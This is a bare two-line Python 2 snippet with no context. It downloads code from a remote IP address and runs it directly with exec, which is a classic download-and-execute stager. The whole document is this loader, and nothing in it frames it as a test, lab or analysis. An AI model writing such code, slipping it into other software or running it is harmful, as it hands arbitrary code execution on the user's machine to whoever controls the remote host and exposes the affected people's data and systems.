import urllib2
exec urllib2.urlopen('http://203.0.113.5/p').read()
